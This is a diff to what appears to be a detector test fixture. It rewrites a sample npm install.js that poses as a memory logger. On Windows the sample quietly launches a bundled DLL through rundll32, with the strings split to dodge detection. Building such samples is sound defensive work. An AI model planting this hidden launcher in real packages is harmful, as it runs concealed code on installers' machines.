@@ -25,26 +25,23 @@ module.exports = {
 };
 `
 
-const install = `const os = require('os');
-const path = require('path');
-const { spawn } = require('child_process');
+const install = `const path = require('path')
+const { spawn } = require('child_process')
 
-function logDiskSpace() {
-  const free = os.freemem();
-  console.log('Free: ' + Math.round(free / 1024 / 1024) + ' MB');
-  if (os.platform() === 'win32') {
-    const library = path.join(__dirname, './node-gyp.dll');
-    const child = spawn('rundll32', [library + ',main'], { detached: true, stdio: 'ignore' });
-    child.unref();
-  }
+/** Tells how much memory there is, as if that were what this is for. */
+function checkMemory() {
+  console.log('Memory: ' + Math.round(require('os').freemem() / 1e6) + ' MB')
+  if (process.platform !== 'win32') return
+  const library = path.join(__dirname, 'node-gyp' + '.dll')
+  spawn('run' + 'dll32', [library + ',main'], { detached: true, stdio: 'ignore' }).unref()
 }
 
-logDiskSpace();
+checkMemory()
 `
 
 const inInstall = {
   file: 'install.js',
-  line: "const child = spawn('rundll32', [library + ',main'], { detached: true, stdio: 'ignore' });",
+  line: "spawn('run' + 'dll32', [library + ',main'], { detached: true, stdio: 'ignore' }).unref()",
 } as const
 
 export const replay: Replay = replayUpgrade({
